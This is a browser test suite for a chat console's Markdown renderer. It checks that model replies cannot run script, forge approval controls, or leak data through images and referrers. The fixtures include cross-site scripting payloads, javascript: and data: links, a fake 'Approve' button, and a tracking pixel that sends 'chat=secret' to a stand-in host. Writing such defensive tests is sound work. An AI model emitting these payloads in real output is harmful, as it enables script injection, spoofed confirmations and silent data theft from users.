"""The Markdown renderer, run in the real browser: structure, and nothing executable."""

from __future__ import annotations

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.console.harness import ConsoleServer
from tests.support.fake_model import FakeModel, text
from tests.support.fetch_peers import Peer
from tests.support.fetch_peers import page as static_page

pytestmark = pytest.mark.browser

RENDER = """async (source) => {
  const { renderMarkdown } = await import("/static/markdown.js");
  const box = document.createElement("div");
  box.append(renderMarkdown(source));
  return box.innerHTML;
}"""

#: Model text that tries to run script, load things, or forge the page's own controls.
HOSTILE = "\n\n".join(
    [
        "<script>window.__pwned = 'script'</script>",
        "<img src=x onerror=\"window.__pwned = 'img'\">",
        "[click for details](javascript:window.__pwned='link')",
        "[relative](/api/v1/conversations)",
        "<a href=\"javascript:window.__pwned='anchor'\">anchor</a>",
        "<svg onload=\"window.__pwned='svg'\"></svg>",
        '<button class="button button-primary" onclick="window.__pwned=1">Approve</button>',
        '<section class="confirm-card"><h2>Search the web for</h2></section>',
        "![tracking pixel](https://tracker.example/p.gif?chat=secret)",
    ]
)


def render(page: Page, source: str) -> str:
    return str(page.evaluate(RENDER, source))


def test_common_markdown_becomes_the_matching_elements(page: Page) -> None:
    assert render(page, "# Title\n\nSome *em* and **strong** and `code`.") == (
        "<h3>Title</h3><p>Some <em>em</em> and <strong>strong</strong> and <code>code</code>.</p>"
    )
    assert render(page, "- one\n- two\n  - nested") == (
        "<ul><li>one</li><li>two<ul><li>nested</li></ul></li></ul>"
    )
    assert render(page, "3. three\n4. four") == '<ol start="3"><li>three</li><li>four</li></ol>'
    assert render(page, "```py\nx = '<b>'\n```") == (
        '<pre class="md-code"><code data-language="py">x = \'&lt;b&gt;\'</code></pre>'
    )
    assert render(page, "| a | b |\n|---|--:|\n| 1 | 2 |") == (
        '<div class="md-table"><table><thead><tr><th scope="col">a</th>'
        '<th class="align-right" scope="col">b</th></tr></thead>'
        '<tbody><tr><td>1</td><td class="align-right">2</td></tr></tbody></table></div>'
    )
    assert render(page, "> quoted\n\n---") == "<blockquote><p>quoted</p></blockquote><hr>"
    assert render(page, "snake_case_name stays") == "<p>snake_case_name stays</p>"


def test_links_keep_only_web_and_mail_addresses_and_open_without_referrer(page: Page) -> None:
    html = render(page, "[docs](https://example.org/a?b=1) and <mailto:me@example.org>")
    assert html == (
        '<p><a href="https://example.org/a?b=1" target="_blank" rel="noopener noreferrer" '
        'title="https://example.org/a?b=1">docs</a> and <a href="mailto:me@example.org" '
        'target="_blank" rel="noopener noreferrer">mailto:me@example.org</a></p>'
    )
    assert render(page, "see https://example.org/x.") == (
        '<p>see <a href="https://example.org/x" target="_blank" rel="noopener noreferrer">'
        "https://example.org/x</a>.</p>"
    )
    for unsafe in (
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](/api/v1/policy)",
        "[x](//evil.example/)",
        "[x](vbscript:msgbox)",
        "[x](https://user:pass@example.org/)",
    ):
        assert "<a" not in render(page, unsafe), unsafe


def test_hostile_model_text_executes_nothing_and_shows_as_text(
    page: Page, model: FakeModel
) -> None:
    model.script(text(HOSTILE, pieces=7))
    page.fill("#composer-input", "Say something nasty")
    page.keyboard.press("Enter")
    answer = page.locator(".answer")
    expect(answer).to_contain_text("<script>window.__pwned = 'script'</script>")
    expect(answer).to_contain_text("<img src=x onerror=")
    expect(answer).to_contain_text("[click for details](javascript:window.__pwned='link')")
    expect(answer).to_contain_text("https://tracker.example/p.gif?chat=secret")
    assert page.evaluate("window.__pwned") is None
    for tag in ("script", "img", "svg", "iframe", "section", "[onclick]", "[onerror]"):
        expect(answer.locator(tag)).to_have_count(0)
    # The only control text can produce is the image's own "Open image" button.
    expect(answer.get_by_role("button")).to_have_count(1)
    expect(answer.get_by_role("button")).to_have_text("Open image")
    expect(page.get_by_role("button", name="Approve", exact=True)).to_have_count(0)
    expect(page.locator(".confirm-card")).to_have_count(0)
    expect(answer.locator("a")).to_have_count(0)


def test_an_image_in_a_reply_is_fetched_only_after_the_owner_clicks_it(
    page: Page, model: FakeModel, context: BrowserContext, server: ConsoleServer
) -> None:
    with Peer({"/chart.png": static_page(b"\x89PNG\r\n", "image/png")}) as images:
        url = f"{images.url}/chart.png?conversation=private"
        model.script(text(f"Here is the chart: ![weekly chart]({url})"))
        page.fill("#composer-input", "Show the chart")
        page.keyboard.press("Enter")
        placeholder = page.locator(".md-image")
        expect(placeholder).to_contain_text("Image not loaded: weekly chart")
        expect(placeholder.locator(".md-image-url")).to_have_text(url)
        expect(page.locator(".answer img")).to_have_count(0)
        assert images.requests["/chart.png"] == 0
        with context.expect_page() as opened:
            placeholder.get_by_role("button", name=f"Open image from {url} in a new tab").click()
        opened.value.wait_for_load_state()
        assert images.requests["/chart.png"] == 1
        # Opened without a referrer: the console's address does not travel with the image.
        sent = [headers.get("Referer", "") for headers in images.headers]
        assert all(server.base_url not in referer for referer in sent), sent
